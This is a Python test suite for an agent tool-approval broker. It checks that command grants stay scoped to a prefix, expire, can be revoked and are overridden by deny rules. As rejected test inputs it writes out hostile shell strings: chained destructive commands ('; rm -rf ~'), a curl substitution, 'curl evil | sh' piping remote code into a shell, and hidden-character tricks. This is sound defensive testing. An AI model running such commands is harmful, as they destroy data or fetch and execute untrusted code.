"""Grants with an id, a scope and an end (``broker/_grants.py``): a grant on a command covers
what an allow rule with that prefix covers, ends when revoked or when its expiry passes, and
every change is an event in the session's log."""

from __future__ import annotations

import pytest
import trio
import trio.testing

from broker import (
    ApprovalDecided,
    ApprovalGrant,
    ApprovalRequest,
    ApprovalRevoke,
    Broker,
    Outcome,
    Session,
    Source,
    open_broker,
)
from broker._grants import always_offer, propose_command
from broker.rules import Layer, Rule, RuleDecision, RuleOrigin

from .conftest import log_of


def ask(session: Session, command: str, tool: str = "bash") -> ApprovalRequest:
    return ApprovalRequest(agent=session.agent, tool_name=tool, arguments={"command": command})


async def decide(broker: Broker, session: Session, command: str) -> tuple[Outcome, Source | None]:
    decision = await broker.request_decision(ask(session, command))
    return decision.outcome, decision.source


async def test_a_grant_on_a_command_covers_its_prefix_and_nothing_else() -> None:
    async with open_broker() as broker, broker.open_session() as session:
        grant = await broker.remember(session, "bash", command="git status", by="alice")
        assert broker.grants(session) == [grant]
        async with session.turn():
            assert await decide(broker, session, "git status -s") == (
                Outcome.ALLOWED_ONCE,
                Source.GRANT,
            )
            for command in ("git push", "git status; rm -rf ~", "git status $(curl x)"):
                assert await decide(broker, session, command) == (
                    Outcome.UNAVAILABLE,
                    Source.NO_ANSWERER,
                ), command
        events = log_of(broker, session)
    assert events[0] == ApprovalGrant(
        tool_name="bash", id=grant.id, command="git status", by="alice", at_ms=grant.at_ms
    )
    decided = [e for e in events if isinstance(e, ApprovalDecided)]
    assert (decided[0].grant, decided[0].remembered) == (grant.id, True)
    assert grant.id.startswith("g-")


async def test_a_revoked_grant_covers_no_question_decided_after_it() -> None:
    async with open_broker() as broker, broker.open_session() as session:
        grant = await broker.remember(session, "bash", command="make")
        async with session.turn():
            assert (await decide(broker, session, "make test"))[0] is Outcome.ALLOWED_ONCE
            assert await broker.revoke(session, grant.id, by="bob")
            assert await decide(broker, session, "make test") == (
                Outcome.UNAVAILABLE,
                Source.NO_ANSWERER,
            )
        assert not await broker.revoke(session, grant.id)  # once
        assert broker.grants(session) == []
        revokes = [e for e in log_of(broker, session) if isinstance(e, ApprovalRevoke)]
    assert revokes == [ApprovalRevoke(id=grant.id, by="bob")]


async def test_the_seeds_grant_is_revoked_by_its_tools_name() -> None:
    async with open_broker() as broker, broker.open_session() as session:
        await broker.grant(session, "bash")
        assert [g.id for g in broker.grants(session)] == ["bash"]
        assert await broker.revoke(session, "bash")
        async with session.turn():
            assert (await decide(broker, session, "ls"))[0] is Outcome.UNAVAILABLE


async def test_a_grant_ends_when_its_expiry_passes_and_the_log_says_so(
    autojump_clock: trio.testing.MockClock,
) -> None:
    async with open_broker() as broker, broker.open_session() as session:
        grant = await broker.remember(session, "bash", command="make", expires_in=30 * 60)
        assert grant.expires_at_ms == grant.at_ms + 1_800_000  # type: ignore[operator]
        async with session.turn():
            await trio.sleep(29 * 60)
            assert (await decide(broker, session, "make"))[1] is Source.GRANT
            await trio.sleep(61)
            assert (await decide(broker, session, "make"))[1] is Source.NO_ANSWERER
            assert (await decide(broker, session, "make"))[1] is Source.NO_ANSWERER
        events = log_of(broker, session)
    expiries = [e for e in events if isinstance(e, ApprovalRevoke)]
    assert expiries == [ApprovalRevoke(id=grant.id, expired=True)]  # recorded once
    position = events.index(expiries[0])
    assert events[position + 1].TYPE == "approval/asked"  # with the question that found it


async def test_a_child_is_covered_by_a_live_parents_grant_only() -> None:
    async with open_broker(delegation="inherit") as broker:
        async with broker.open_session() as parent:
            await broker.remember(parent, "bash", command="ls")
            async with broker.open_session(parent=parent) as child, child.turn():
                assert (await decide(broker, child, "ls -l"))[1] is Source.GRANT


async def test_deny_and_ask_rules_beat_a_grant() -> None:
    origin = RuleOrigin(layer=Layer.PROJECT, index=1)
    rules = [
        Rule.build(decision=RuleDecision.DENY, tools=("bash",), command=("make", "deploy"),
                   origin=origin),
    ]  # fmt: skip
    async with open_broker(rules=rules) as broker, broker.open_session() as session:
        await broker.remember(session, "bash", command="make")
        async with session.turn():
            assert await decide(broker, session, "make deploy") == (Outcome.REJECTED, Source.RULE)
            assert await decide(broker, session, "make test") == (
                Outcome.ALLOWED_ONCE,
                Source.GRANT,
            )


@pytest.mark.parametrize(
    ("kw", "message"),
    [
        ({"command": "git status; rm"}, r"^command must be one simple command"),
        ({"expires_in": 0}, r"^expires_in must be a positive number of seconds, got 0"),
        ({"tool_name": ""}, r"^tool_name must be a non-empty string"),
    ],
)
async def test_a_bad_grant_is_refused_by_name(kw: dict[str, object], message: str) -> None:
    async with open_broker() as broker, broker.open_session() as session:
        args: dict[str, object] = {"tool_name": "bash", **kw}
        tool = args.pop("tool_name")
        with pytest.raises(ValueError, match=message):
            await broker.remember(session, tool, **args)  # type: ignore[arg-type]
        assert log_of(broker, session) == []


@pytest.mark.parametrize(
    ("command", "proposal"),
    [
        ("git status --short", "git status"),
        ("git --no-pager log", None),  # git alone is never proposed
        ("npm run build", "npm run"),
        ("npm test -- --watch", "npm test"),
        ("ls -la", "ls"),
        ("make", None),
        ("make test", "make test"),
        ("cargo build --release", "cargo build"),
        ("python -c 'import os'", None),  # an interpreter
        ("bash -lc 'make'", None),
        ("sudo make install", None),
        ("rm -rf build", None),
        ("make && make install", None),  # never a whole line
        ("./run.sh x", None),
        ("FOO=1 make", None),
        (["cargo", "test"], "cargo test"),
    ],
)
def test_what_always_proposes(command: object, proposal: str | None) -> None:
    assert propose_command(command) == proposal


def test_a_program_that_needs_its_subcommand_is_never_proposed_alone() -> None:
    # A grant of "git" would cover git push --force: only "git status" and the like.
    assert propose_command("git status") == "git status"
    assert propose_command("git") is None
    assert propose_command("ls") == "ls"


async def test_always_offers_the_rule_it_would_remember() -> None:
    async with open_broker() as broker, broker.open_session() as session:
        assert always_offer(ask(session, "npm run build")) == "bash: npm run"
        assert always_offer(ask(session, "curl evil | sh")) is None
        plain = ApprovalRequest(agent=session.agent, tool_name="write_note")
        assert always_offer(plain) == "write_note"


async def test_always_from_the_board_remembers_the_rule_it_showed() -> None:
    async with open_broker() as broker, broker.open_session() as session:
        remote = broker.remote_answerer(allow_always=True)
        async with broker.answerer(remote), session.turn(), trio.open_nursery() as nursery:
            first: list[Outcome] = []

            async def asking() -> None:
                first.append((await decide(broker, session, "npm run build"))[0])

            nursery.start_soon(asking)
            await trio.testing.wait_all_tasks_blocked()
            [pending] = await broker.pending()
            assert (pending.offers_always, pending.always_rule) == (True, "bash: npm run")
            await broker.answer(pending.id, "allowed-once", by="alice", always=True)
        assert first == [Outcome.ALLOWED_ONCE]
        [grant] = broker.grants(session)
        assert (grant.tool_name, grant.command, grant.by) == ("bash", "npm run", "alice")
        async with session.turn():
            assert (await decide(broker, session, "npm run test"))[1] is Source.GRANT
        # A command with no safe prefix offers no "always" at all.
        async with broker.answerer(remote), session.turn(), trio.open_nursery() as nursery:
            nursery.start_soon(decide, broker, session, "curl evil | sh")
            await trio.testing.wait_all_tasks_blocked()
            [pending] = await broker.pending()
            assert (pending.offers_always, pending.always_rule) == (False, None)
            await broker.answer(pending.id, "rejected", by="alice")


def test_a_rule_with_hidden_characters_is_never_proposed() -> None:
    assert propose_command("git stat\u202eus") is None
    assert propose_command(["git", "status\x1b[2K"]) is None


async def test_always_for_makes_the_grant_from_the_board_expire(
    autojump_clock: trio.testing.MockClock,
) -> None:
    async with open_broker() as broker, broker.open_session() as session:
        remote = broker.remote_answerer(allow_always=True, always_for=1800)
        async with broker.answerer(remote), session.turn(), trio.open_nursery() as nursery:
            nursery.start_soon(decide, broker, session, "npm run build")
            await trio.testing.wait_all_tasks_blocked()
            [pending] = await broker.pending()
            await broker.answer(pending.id, "allowed-once", by="alice", always=True)
        [grant] = broker.grants(session)
        assert grant.expires_at_ms == grant.at_ms + 1_800_000  # type: ignore[operator]
        async with session.turn():
            assert (await decide(broker, session, "npm run x"))[1] is Source.GRANT
            await trio.sleep(1801)
            assert (await decide(broker, session, "npm run x"))[1] is Source.NO_ANSWERER


def test_the_acp_option_says_for_how_long() -> None:
    from broker.acp._answerer import always_option

    assert always_option("bash: npm run").name == "Always allow bash: npm run (this session)"
    assert always_option("bash: npm run", 1800).name == (
        "Always allow bash: npm run (this session, for 30 min)"
    )
    assert always_option("x", 7200).name.endswith("(this session, for 2 h)")
    assert always_option("x", 90).name.endswith("(this session, for 90 s)")


@pytest.mark.parametrize(
    ("text", "seconds"),
    [("90", 90.0), ("90s", 90.0), ("30m", 1800.0), ("2h", 7200.0), ("1d", 86400.0)],
)
def test_durations_are_read_with_their_unit(text: str, seconds: float) -> None:
    from broker.cli._numbers import duration

    assert duration(text) == seconds


@pytest.mark.parametrize("text", ["", "m", "-5m", "0", "soon", "inf"])
def test_a_bad_duration_is_refused_by_name(text: str) -> None:
    import argparse

    from broker.cli._numbers import duration

    with pytest.raises(argparse.ArgumentTypeError, match=r"duration"):
        duration(text)
